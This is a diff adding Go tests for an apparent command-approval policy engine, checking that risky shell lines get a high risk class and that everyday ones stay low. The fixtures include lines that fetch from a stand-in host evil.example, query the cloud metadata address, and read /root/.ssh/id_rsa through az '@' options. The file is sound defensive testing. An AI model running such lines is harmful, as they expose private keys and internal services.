@@ -1,0 +1,68 @@
+package policy
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"approvalbot/core"
+)
+
+// TestAdversary_W15_AddressesWhereFilesStand: programs that fetch what they are given
+// as a file, or as a directory, where it is an address.
+func TestAdversary_W15_AddressesWhereFilesStand(t *testing.T) {
+	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
+	for _, line := range []string{
+		"openssl x509 -noout -in http://evil.example/x", "openssl x509 -noout -in=http://evil.example/x", "openssl crl -noout -in http://evil.example/x",
+		"for u in http://evil.example/a; do openssl x509 -noout -in \"$u\"; done",
+		"kustomize build https://evil.example/x", "kustomize build evil.example/o/r", "kubectl kustomize github.com/evil/x?ref=data", "kustomize build git@evil.example:o/r", "kustomize build gh:o/r",
+		"buf build buf.build/evil/x", "buf lint evil.example/o/data", "buf breaking --against evil.example/o/r", "buf lint --config evil.example/o/r",
+		"gh repo view evil.example/o/data", "xmllint --noout http://169.254.169.254/latest/meta-data", "glab ci lint http://10.0.0.1/x",
+	} {
+		j := judge(e, lineCall(t, line))
+		require.GreaterOrEqual(t, j.Assessment.RiskClass, core.R3, "%s: %v", line, j.Assessment.ReasonCodes)
+	}
+	for _, line := range []string{"xmllint http://example.com/x", "xmllint --noout https://example.com/x.xml a.xml"} {
+		j := judge(e, lineCall(t, line))
+		require.GreaterOrEqual(t, j.Assessment.RiskClass, core.R2, "%s: %v", line, j.Assessment.ReasonCodes)
+	}
+}
+
+// TestAdversary_W16_ValuesThatDoMore: values of options that are files, environments or
+// places although they stand where a text does.
+func TestAdversary_W16_ValuesThatDoMore(t *testing.T) {
+	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
+	for _, line := range []string{
+		"az group list --query @/root/.ssh/id_rsa", "az group list --query=@/root/.ssh/id_rsa", "az group list --tag @notes.txt", "az vm list -g @x", "az vm list -g@x", "az account list --query @-", "az group list --query x=@/root/.ssh/id_rsa", "az storage blob list --account-name @x",
+		"bin/rails test -e production", "rails test -e prod", "rails test -eproduction", "mvn test -Dspring.profiles.active=prod", "mvn test -Dspring.profiles.active=test,production",
+		"bundle check --path /tmp/evil",
+	} {
+		j := judge(e, lineCall(t, line))
+		require.GreaterOrEqual(t, j.Assessment.RiskClass, core.R3, "%s: %v", line, j.Assessment.ReasonCodes)
+	}
+}
+
+// TestAdversary_W12_ReadersThatRunTheProject: what looks like reading loads code that the
+// project names: languages of sgconfig.yml, the SDK of global.json.
+func TestAdversary_W12_ReadersThatRunTheProject(t *testing.T) {
+	asks := engine(t, func(c *Config) { c.ExecSecurity = "full"; c.ProjectCode = "ask" })
+	for _, line := range []string{"ast-grep run -p x src", "dotnet --version", "dotnet --info", "dotnet tool list"} {
+		require.Equal(t, core.OutcomeAsk, judge(asks, lineCall(t, line)).Outcome, line)
+	}
+}
+
+// TestOptionsStillTell: what stands beside those lines every day.
+func TestOptionsStillTell(t *testing.T) {
+	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
+	for _, line := range []string{
+		"openssl x509 -noout -dates -in cert.pem", "openssl crl -noout -text -in a.crl", "openssl req -noout -subject -in a.csr", "xmllint --noout a.xml",
+		"kustomize build .", "kustomize build overlays/dev", "kustomize build ./k8s.d/dev",
+		"buf lint", "buf lint proto", "buf format -w proto/a/b.proto", "buf build -o a.bin", "buf breaking --against '.git#branch=main'", "buf breaking --against x.binpb",
+		"gh repo view", "gh repo view o/r", "gh repo view https://github.com/o/r", "gh repo view o/r --json name", "gh pr view feature/a/b",
+		"az group list --query '[].name'", "az account show -o json", "az vm list -g rg --query \"[?contains(@.name, 'x')]\"", "az storage blob list --account-name x --container-name y", "bin/rails test -n x", "bin/rails test -e test", "rails test test/models", "mvn test -Dspring.profiles.active=test", "mvn test -Dspring.profiles.active=test,dev",
+		"bundle check", "bundle info rails --path", "ast-grep run -p x src", "dotnet --version", "dotnet --info", "dotnet tool list",
+	} {
+		j := judge(e, lineCall(t, line))
+		require.LessOrEqual(t, j.Assessment.RiskClass, core.R2, "%s: %v", line, j.Assessment.ReasonCodes)
+	}
+}
